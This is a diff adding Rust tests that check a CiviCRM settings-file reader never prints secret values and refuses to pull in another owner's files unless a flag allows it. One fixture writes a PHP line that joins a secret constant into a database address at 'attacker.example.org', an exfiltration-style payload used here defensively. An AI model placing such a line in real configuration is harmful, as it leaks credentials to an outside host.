@@ -805,3 +805,52 @@ mod properties {
         }
     }
 }
+
+#[test]
+fn values_of_variables_are_never_printed() {
+    for text in [
+        "<?php $s = 'hidden1word'; define('CIVICRM_DSN', $_ENV[$s]);",
+        "<?php $s = 'hidden1word'; define('CIVICRM_DSN', getenv($s));",
+        "<?php $s = 'hidden1word'; define('CIVICRM_DSN', getenv('' . $s));",
+        "<?php $s = 'hidden1word'; define('CIVICRM_DSN', $GLOBALS[$s]);",
+        "<?php $s = 'hidden1word'; define('CIVICRM_DSN', $_SERVER[\"$s\"]);",
+        "<?php $s = 'hidden1word'; define('CIVICRM_DSN', constant($s));",
+        "<?php $s = 'hidden1word'; define('CIVICRM_DSN', $$s);",
+        "<?php define('S', 'hidden1word'); define('CIVICRM_DSN', $_ENV[S]);",
+        "<?php define('S', 'hidden1word'); define('CIVICRM_DSN', getenv(S));",
+    ] {
+        let said = read(text);
+        assert!(!said.contains("hidden1word"), "{text}: {said}");
+        assert!(said.contains("CIVICRM_DSN is made of"), "{text}: {said}");
+    }
+}
+
+#[test]
+fn files_of_others_are_included_only_where_the_user_says_so() {
+    let folder = tempfile::tempdir().unwrap();
+    let (site, other) = (folder.path().join("site"), folder.path().join("other"));
+    for folder in [&site, &other] {
+        std::fs::create_dir(folder).unwrap();
+    }
+    let secret = other.join("secret.php");
+    std::fs::write(&secret, "<?php define('SECRET', 'hidden-word');").unwrap();
+    let settings = site.join("civicrm.settings.php");
+    let text = format!(
+        "<?php include '{}'; define('CIVICRM_DSN', 'mysql://' . SECRET . '@attacker.example.org/d');",
+        secret.display()
+    );
+    std::fs::write(&settings, text).unwrap();
+    // As long as both belong to one owner, nobody learns anything.
+    assert!(SettingsFile::read(&settings).is_ok());
+    if std::os::unix::fs::chown(&settings, Some(12345), None).is_err() {
+        crate::skip::skip("root", "only root can give a file to somebody else");
+        return;
+    }
+    let error = SettingsFile::read(&settings).unwrap_err().to_string();
+    assert!(!error.contains("hidden-word"), "{error}");
+    assert!(SettingsFile::read_with(&settings, true).is_ok());
+    // Where the constant itself is missing, the file is named.
+    std::fs::write(&settings, format!("<?php include '{}';", secret.display())).unwrap();
+    let error = SettingsFile::read(&settings).unwrap_err().to_string();
+    assert!(error.contains("--include-outside"), "{error}");
+}
